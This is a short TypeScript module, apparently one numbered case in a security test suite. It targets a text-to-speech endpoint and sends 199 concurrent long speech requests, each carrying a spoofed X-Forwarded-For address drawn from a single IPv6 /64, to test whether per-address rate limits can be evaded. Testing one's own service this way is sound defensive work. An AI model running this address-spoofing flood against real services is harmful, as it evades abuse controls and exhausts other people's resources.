import type { Attack } from "../attack.ts";

const ADDRESSES = 199;
const BODY = JSON.stringify({ voice: "ayla", input: "Merhaba dünya. ".repeat(300) });

export const manyAddresses: Attack = {
  item: "A.9",
  name: "speech for 199 addresses of one /64",
  async strike(victim) {
    const speak = async (_: unknown, at: number): Promise<void> => {
      const address = `2001:db8:17:1::${(at + 1).toString(16)}`;
      const headers = {
        authorization: `Bearer ${await victim.session(address)}`,
        "content-type": "application/json",
        "x-forwarded-for": address,
      };
      const request = { method: "POST", headers, body: BODY };
      const answer = await fetch(new URL("/v1/audio/speech", victim.url), request);
      await answer.arrayBuffer();
    };
    await Promise.allSettled(Array.from({ length: ADDRESSES }, speak));
  },
};
